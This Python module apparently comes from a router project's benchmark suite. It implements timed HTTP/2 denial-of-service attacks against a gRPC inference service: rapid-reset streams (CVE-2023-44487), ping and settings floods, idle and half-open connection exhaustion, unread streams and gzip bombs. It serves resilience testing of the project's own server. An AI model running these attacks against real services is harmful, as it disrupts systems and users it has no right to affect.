"""What a caller without manners can do to a router, each for some seconds."""

from __future__ import annotations

import asyncio
import gzip
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
from contextlib import AsyncExitStack, asynccontextmanager, suppress

from h2.errors import ErrorCodes
from h2.exceptions import ProtocolError

from benchmarks.attacks.raw_http2 import RawHttp2, framed
from sluice.v1 import inference_service_pb2 as inference_pb2

Attack = Callable[[str, float], Awaitable[None]]
INFER = "/sluice.v1.InferenceService/Infer"
INFER_STREAM = "/sluice.v1.InferenceService/InferStream"
MESSAGE = inference_pb2.InferRequest(text="x", query_class=1).SerializeToString()
BOMB = gzip.compress(bytes(200 * 1024 * 1024), 9)
CONNECTIONS = 200
AT_ONCE = 100
PAUSE_S = 0.01


@asynccontextmanager
async def _connected(address: str, count: int, *, reads: bool = True) -> AsyncIterator[list[RawHttp2]]:
    async with AsyncExitStack() as stack:
        yield [await stack.enter_async_context(RawHttp2(address, reads=reads)) for _ in range(count)]


async def _again(address: str, seconds: float, burst: Callable[[RawHttp2], None]) -> None:
    """`burst` again and again on one connection, and on a new one when that is closed."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with suppress(OSError, ProtocolError):
            async with RawHttp2(address) as connection:
                while time.monotonic() < until and not connection.closed.is_set():
                    burst(connection)
                    connection.flush()
                    await connection.writer.drain()
                    await asyncio.sleep(PAUSE_S)


async def rapid_reset(address: str, seconds: float) -> None:
    """Streams that are reset as soon as they are open (CVE-2023-44487)."""

    def burst(connection: RawHttp2) -> None:
        for _ in range(AT_ONCE):
            connection.h2.reset_stream(connection.call(INFER, MESSAGE), ErrorCodes.CANCEL)

    await _again(address, seconds, burst)


async def ping_flood(address: str, seconds: float) -> None:
    """Pings without end."""

    def burst(connection: RawHttp2) -> None:
        for _ in range(AT_ONCE):
            connection.h2.ping(b"attacker")

    await _again(address, seconds, burst)


async def settings_flood(address: str, seconds: float) -> None:
    """Settings without end, each of which is to be acknowledged."""

    def burst(connection: RawHttp2) -> None:
        for _ in range(AT_ONCE):
            connection.writer.write(b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")

    await _again(address, seconds, burst)


async def idle_connections(address: str, seconds: float) -> None:
    """Connections that do nothing."""
    async with _connected(address, CONNECTIONS):
        await asyncio.sleep(seconds)


async def half_open_connections(address: str, seconds: float) -> None:
    """Connections whose other end answers nothing, not even pings."""
    async with _connected(address, CONNECTIONS, reads=False):
        await asyncio.sleep(seconds)


async def unread_streams(address: str, seconds: float) -> None:
    """Streams that ask and never read."""
    message = inference_pb2.InferStreamRequest()
    for number in range(100):
        message.items.add(id=number, request=inference_pb2.InferRequest(text="x" * 50, query_class=1))
    data = message.SerializeToString()
    async with _connected(address, 20, reads=False) as connections:
        for connection in connections:
            with suppress(ProtocolError):
                for _ in range(6):
                    connection.call(INFER_STREAM, data, end=False)
            connection.flush()
        await asyncio.sleep(seconds)


async def gzip_bombs(address: str, seconds: float) -> None:
    """Messages of 200 kB that are 200 MB when they are decompressed."""
    data = framed(BOMB, compressed=True)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with suppress(OSError, ProtocolError):
            async with RawHttp2(address) as connection:
                stream = connection.open(INFER, ("grpc-encoding", "gzip"))
                sent = 0
                while sent < len(data) and time.monotonic() < until and not connection.closed.is_set():
                    room = min(16_000, connection.h2.local_flow_control_window(stream))
                    if room:
                        end = sent + room >= len(data)
                        connection.h2.send_data(stream, data[sent : sent + room], end_stream=end)
                        connection.flush()
                        sent += room
                    await asyncio.sleep(0 if room else PAUSE_S)
                await asyncio.sleep(PAUSE_S)


ATTACKS: Mapping[str, Attack] = {
    "rapid reset": rapid_reset,
    "ping flood": ping_flood,
    "settings flood": settings_flood,
    "idle connections": idle_connections,
    "half-open connections": half_open_connections,
    "unread streams": unread_streams,
    "gzip bombs": gzip_bombs,
}
